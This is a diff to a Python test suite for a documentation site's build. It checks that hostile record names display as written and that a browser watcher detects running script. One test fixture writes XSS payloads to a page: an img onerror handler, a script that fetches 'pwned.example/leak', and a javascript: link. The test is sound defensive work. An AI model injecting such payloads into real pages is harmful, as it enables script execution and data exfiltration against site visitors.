@@ -8,7 +8,8 @@ environment, break a link, or show differently from how the contributor wrote it
 
 from __future__ import annotations
 
-import html
+import csv
+import io
 import json
 import re
 from dataclasses import dataclass
@@ -187,7 +188,7 @@ def _inner(markup: str, pattern: str) -> str:
     return visible_text(found.group(1))
 
 
-def test_names_show_as_written_in_heading_title_and_header(hostile: HostileBuild) -> None:
+def test_names_show_as_written_in_heading_title_header_and_contents(hostile: HostileBuild) -> None:
     """Entities, quotes, backslashes and Markdown in a name: the reader sees exactly what was written."""
     for collection in COLLECTIONS:
         record = hostile.record(collection.name)
@@ -195,6 +196,10 @@ def test_names_show_as_written_in_heading_title_and_header(hostile: HostileBuild
         assert _inner(page, r"<h1[^>]*>(.*?)<a class=\"headerlink\"") == label, collection.name
         assert _inner(page, r"<title>(.*?)</title>") == f"{label} - CICA Knowledge Base", collection.name
         assert _inner(page, r'data-md-component="header-topic">\s*<span class="md-ellipsis">(.*?)</span>') == label, collection.name
+    index, state = (hostile.site / "practices/index.html").read_text(encoding="utf-8"), hostile.record("states")
+    heading = re.search(r'<h2 id="([^"]+)"><a href="../states/zz/">', index)
+    assert heading, "the practices index has a heading for the hostile state"
+    assert _inner(index, rf'<a href="#{re.escape(heading.group(1))}" class="md-nav__link">\s*<span class="md-ellipsis">(.*?)</span>') == state.label  # the table of contents
 
 
 def test_plain_text_shows_as_written_and_markdown_tricks_do_not_swallow_the_page(hostile: HostileBuild) -> None:
@@ -216,7 +221,7 @@ def test_markdown_tricks_break_no_link_and_hide_no_page(hostile: HostileBuild) -
     assert set(pages) - reachable(hostile.site, pages, site_url) == {"404.html"}
 
 
-def test_feeds_calendar_and_citations_carry_the_text_as_written(hostile: HostileBuild) -> None:
+def test_feeds_calendar_citations_and_exports_carry_the_text_as_written(hostile: HostileBuild) -> None:
     practice, meeting = hostile.record("practices"), hostile.record("meetings")
     atom = ElementTree.parse(hostile.site / "feeds/practices.xml").getroot()
     namespace = {"atom": "http://www.w3.org/2005/Atom"}
@@ -230,14 +235,19 @@ def test_feeds_calendar_and_citations_carry_the_text_as_written(hostile: Hostile
     assert citation[0]["title"] == latex_text(title)
     assert citation[0]["url"].endswith("/practices/zz/hostile/")
     assert json.loads((hostile.site / "cite/practices/zz/hostile.json").read_text(encoding="utf-8"))[0]["title"] == title
+    exported = json.loads((hostile.site / "data/practices/zz/hostile.json").read_text(encoding="utf-8"))
+    assert (exported["title"], exported["summary"], exported["body"]) == (practice["title"], practice["summary"], practice["body"])
+    rows = csv.DictReader(io.StringIO((hostile.site / "data/practices.csv").read_text(encoding="utf-8-sig")))
+    assert next(row for row in rows if row["id"] == "zz/hostile")["title"] == practice["title"]
 
 
 # --- in a real browser: nothing runs, nothing is fetched from elsewhere --------------------------------
 
-# Every element whose attributes could run script, and what a payload would have set.
+# What a payload would have set, every element whose attributes could run script, and a page too wide to read.
 DOM_CHECK = """() => {
   const found = [];
   if (window.__pwned !== undefined) found.push(`window.__pwned = ${window.__pwned}`);
+  if (document.documentElement.scrollWidth > window.innerWidth) found.push("the page scrolls sideways: a long word or line is not wrapped");
   for (const element of document.querySelectorAll("*")) {
     if (["iframe", "frame", "object", "embed", "base"].includes(element.localName)) found.push(`<${element.localName}>`);
     for (const attribute of element.attributes) {
@@ -333,7 +343,8 @@ def test_the_browser_watch_catches_script_that_runs(browser: Browser, tmp_path: 
     """The listeners above are not blind: an unsanitised page trips every one of them."""
     (tmp_path / "index.html").write_text(
         "<!doctype html><title>t</title><img src=x onerror=\"window.__pwned='img'\">"
-        "<script>alert('hi'); fetch('https://pwned.example/leak')</script><a href='javascript:void(0)'>x</a>",
+        "<script>alert('hi'); fetch('https://pwned.example/leak')</script><a href='javascript:void(0)'>x</a>"
+        f"<pre>{'w' * 1000}</pre>",
         encoding="utf-8",
     )
     watch = Watch([], [], set())
@@ -343,7 +354,7 @@ def test_the_browser_watch_catches_script_that_runs(browser: Browser, tmp_path: 
         page.wait_for_function("window.__pwned !== undefined")
         found = page.evaluate(DOM_CHECK)
         page.context.close()
-    assert found == ["window.__pwned = img", "<img onerror>", "<a href=javascript:void(0)>"]
+    assert found == ["window.__pwned = img", "the page scrolls sideways: a long word or line is not wrapped", "<img onerror>", "<a href=javascript:void(0)>"]
     assert watch.dialogs == [f"{base}: alert hi"] and "pwned.example" in watch.hosts
 
 
